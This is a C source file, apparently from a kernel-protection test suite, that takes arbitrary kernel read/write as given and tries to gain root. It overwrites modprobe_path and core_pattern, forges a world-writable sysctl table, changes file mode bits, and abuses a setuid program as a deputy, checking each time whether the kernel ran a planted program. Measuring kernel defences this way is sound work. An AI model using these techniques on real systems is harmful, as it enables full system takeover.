// SPDX-License-Identifier: GPL-2.0-only
/*
 * What the kernel believes: paths of programs that it runs as root, changed by
 * a store, and by a sysctl that believes a forged table.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "objects.h"
#include "open_files.h"
#include "rooted.h"

static enum outcome judge_proof(int err)
{
	char proof[256];
	int i;

	for (i = 0; i < 50; i++) {
		if (file_read(ROOTED_PROOF, proof, sizeof(proof)) > 0)
			return won("the kernel ran %s for uid %d: %s", ROOTED_PROGRAM, getuid(), proof);
		usleep(20000);
	}
	return lost("store gave %d, %s was not run", err, ROOTED_PROGRAM);
}

/* What the kernel will run belongs to the attacker: a copy of this program. */
static bool plant_program(void)
{
	int from = open("/proc/self/exe", O_RDONLY);
	int to;
	ssize_t n;

	unlink(ROOTED_PROGRAM);
	if (unlink(ROOTED_PROOF) && errno != ENOENT)
		return false;
	to = open(ROOTED_PROGRAM, O_WRONLY | O_CREAT | O_EXCL, 0755);
	if (from < 0 || to < 0)
		return false;
	do {
		n = sendfile(to, from, NULL, 1 << 20);
	} while (n > 0);
	close(from);
	return !close(to) && !n;
}

static void run_in_child(void (*function)(void))
{
	pid_t pid = fork();

	if (!pid) {
		function();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

static void exec_unknown_format(void)
{
	const char *path = "/tmp/unknown-format";
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (write(fd, "\xff\xff\xff\xff", 4) != 4)
		_exit(1);
	close(fd);
	execl(path, path, (char *)NULL);
}

static void dump_core(void)
{
	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };

	setrlimit(RLIMIT_CORE, &unlimited);
	signal(SIGQUIT, SIG_DFL);
	raise(SIGQUIT);
}

static enum outcome change_helper_path(const char *symbol, const char *option,
				       const char *path, void (*trigger)(void))
{
	uint64_t addr = ksymbol(symbol);
	enum outcome outcome;
	char old[64];
	int err;

	if (!addr)
		return skipped("kernel built without %s", option);
	if (!plant_program())
		return broken("no program to be run");
	kread(addr, old, sizeof(old));
	err = kwrite(addr, path, strlen(path) + 1);
	run_in_child(trigger);
	outcome = judge_proof(err);
	kwrite(addr, old, sizeof(old));
	return outcome;
}

enum outcome modprobe_path(void)
{
	return change_helper_path("modprobe_path", "CONFIG_MODULES", ROOTED_PROGRAM,
				  exec_unknown_format);
}

enum outcome core_pattern(void)
{
	return change_helper_path("core_pattern", "CONFIG_COREDUMP", "|" ROOTED_PROGRAM,
				  dump_core);
}

/* ---- a sysctl ---- */

#define SYSCTL_FILE	"/proc/sys/kernel/core_pattern"
#define TABLES		"coredump_sysctls"
#define TABLE_SIZE	56
#define TABLE_NR	1		/* core_pattern's */
#define TABLE_DATA	8		/* in struct ctl_table */
#define TABLE_MODE	20
#define INODE_POINTERS	16		/* words of struct file, as far as f_inode */
#define INODE_WORDS	16		/* of struct proc_inode, ahead of its inode */
#define IS_READ		0xa0001		/* FMODE_OPENED, FMODE_CAN_READ, FMODE_READ */
#define IS_WRITTEN	0x40002		/* FMODE_CAN_WRITE, FMODE_WRITE */

struct sysctl {
	int fd;
	uint64_t mode;		/* where struct file has its mode */
	uint64_t entry;		/* where its inode says which table */
	uint64_t table;
};

static uint64_t find_mode(uint64_t file)
{
	uint32_t words[2 * INODE_POINTERS];
	int i;

	kread(file, words, sizeof(words));
	for (i = 0; i < 2 * INODE_POINTERS; i++)
		if ((words[i] & (IS_READ | IS_WRITTEN)) == IS_READ && words[i] < 1U << 30)
			return file + i * sizeof(words[0]);
	return 0;
}

/* In front of the inode that a word of struct file leads to. */
static uint64_t find_entry(uint64_t file, uint64_t table)
{
	uint64_t inode, entry = 0;
	int i;

	for (i = 0; i < INODE_POINTERS && !entry; i++) {
		inode = kread64(file + i * 8);
		if (is_kernel_address(inode))
			entry = find_word(inode - INODE_WORDS * 8, INODE_WORDS * 8, table);
	}
	return entry;
}

static bool is_file(uint64_t file, void *arg)
{
	struct sysctl *sysctl = arg;

	sysctl->mode = find_mode(file);
	sysctl->entry = find_entry(file, sysctl->table);
	return sysctl->mode && sysctl->entry;
}

static bool find_sysctl(struct sysctl *sysctl)
{
	sysctl->table = ksymbol(TABLES) + TABLE_NR * TABLE_SIZE;
	sysctl->fd = open(SYSCTL_FILE, O_RDONLY);
	return find_open_file(sysctl->fd, is_file, sysctl);
}

/* As the genuine one, but that anybody may write. */
static void forge_table(uint64_t table, uint64_t at)
{
	uint8_t bytes[TABLE_SIZE];
	uint16_t mode = 0666;

	kread(table, bytes, sizeof(bytes));
	memcpy(bytes + TABLE_MODE, &mode, sizeof(mode));
	kwrite(at, bytes, sizeof(bytes));
}

static int write_by(const struct sysctl *sysctl, uint64_t forged)
{
	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;
	static const char text[] = "|" ROOTED_PROGRAM;
	ssize_t written;

	kwrite(sysctl->mode, &more, sizeof(more));
	kwrite64(sysctl->entry, forged);
	written = pwrite(sysctl->fd, text, strlen(text), 0);
	kwrite64(sysctl->entry, sysctl->table);
	kwrite(sysctl->mode, &mode, sizeof(mode));
	return written == (ssize_t)strlen(text) ? 0 : -1;
}

static int write_by_forged(const struct sysctl *sysctl, uint64_t forged)
{
	forge_table(sysctl->table, forged);
	return write_by(sysctl, forged);
}

/* By a file of the sysctl's, opened for reading; and have the kernel run what it says. */
static enum outcome change_pattern(int (*change)(const struct sysctl *, uint64_t))
{
	uint64_t pattern = ksymbol("core_pattern");
	struct kernel_page page;
	struct sysctl sysctl;
	enum outcome outcome;
	char old[64], now[64];
	int err;

	if (!pattern)
		return skipped("kernel built without CONFIG_COREDUMP");
	if (!plant_program() || !kernel_page(&page))
		return broken("no program to be run, or no page");
	if (!find_sysctl(&sysctl))
		return broken("no file of the sysctl's");
	kread(pattern, old, sizeof(old));
	err = change(&sysctl, page.addr);
	run_in_child(dump_core);
	outcome = judge_proof(err);
	kread(pattern, now, sizeof(now));
	if (memcmp(old, now, sizeof(old)))
		kwrite(pattern, old, sizeof(old));
	return outcome;
}

enum outcome sysctl_table(void)
{
	return change_pattern(write_by_forged);
}

/*
 * The genuine handler is given a table in ordinary memory whose data are ordinary. It
 * takes that for the kernel's copy of one, and what lies behind for the table that was
 * copied.
 */
#define COPY_AT		1024

static int write_by_copy(const struct sysctl *sysctl, uint64_t forged)
{
	forge_table(sysctl->table, forged);
	kwrite64(forged + TABLE_DATA, forged + COPY_AT);
	kwrite64(forged + TABLE_SIZE, sysctl->table);
	return write_by(sysctl, forged);
}

enum outcome sysctl_copy(void)
{
	return change_pattern(write_by_copy);
}

/* A setuid program writes what the attacker says to what the attacker has opened. */
static const struct sysctl *spoken_to;

static void have_it_said(void)
{
	dup2(spoken_to->fd, STDERR_FILENO);
	execl(SETUID_TALKER, "|" ROOTED_PROGRAM, (char *)NULL);
}

static int write_by_deputy(const struct sysctl *sysctl, uint64_t unused)
{
	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;

	(void)unused;
	spoken_to = sysctl;
	kwrite(sysctl->mode, &more, sizeof(more));
	run_in_child(have_it_said);
	kwrite(sysctl->mode, &mode, sizeof(mode));
	return 0;
}

enum outcome sysctl_deputy(void)
{
	return change_pattern(write_by_deputy);
}
